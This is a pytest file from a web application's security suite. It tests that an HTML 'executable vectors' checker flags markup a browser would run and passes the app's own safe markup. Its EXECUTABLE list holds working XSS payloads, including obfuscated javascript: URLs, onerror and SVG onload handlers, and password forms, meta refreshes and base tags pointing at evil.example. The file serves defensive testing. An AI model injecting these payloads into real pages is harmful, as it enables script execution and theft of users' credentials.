"""The vector checker itself: it must see what a browser would run, and pass the app's own markup."""

import markdown
import pytest

from tests.security.payloads import PAYLOADS
from tests.security.vectors import app_route_check, executable_vectors

EXECUTABLE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="&#x01;javascript:alert(1)">a</a>',
    '<a href="JAVASCRIPT&colon;alert(1)">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://e.org/a 1x, javascript:alert(1) 2x">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<form action="https://evil.example/"><input name="password"></form>',
    '<form method="post"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<div style="background:url(https://evil.example/)">x</div>',
    '<iframe srcdoc="x"></iframe>',
    "<svg><a>x</a></svg>",
)
SAFE = (
    '<head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
    '<link rel="stylesheet" href="/static/hocso.css"><link rel="icon" href="data:,"></head>',
    '<form method="post" action="/logout"><button>Log out</button></form>',
    '<a href="/courses/khoa-mau">c</a><a href="#main">m</a><a href="?page=2">p</a>',
    '<a href="https://example.org/">w</a><a href="mailto:a@example.org">m</a>',
    '<img src="/courses/khoa-mau/files/a.png" alt="">',
    '<a href="java   script:alert(1)">spaces make it a relative path</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
)


@pytest.mark.parametrize("html", EXECUTABLE)
def test_checker_flags_what_a_browser_would_run(app, html):
    assert executable_vectors(f"<body>{html}</body>", app_route_check(app))


@pytest.mark.parametrize("html", SAFE)
def test_checker_passes_the_apps_own_markup(app, html):
    assert executable_vectors(html, app_route_check(app)) == []


def test_most_payloads_are_executable_before_sanitising():
    flagged = [p for p in PAYLOADS if executable_vectors(markdown.markdown(p))]
    assert len(flagged) >= 60, len(flagged)
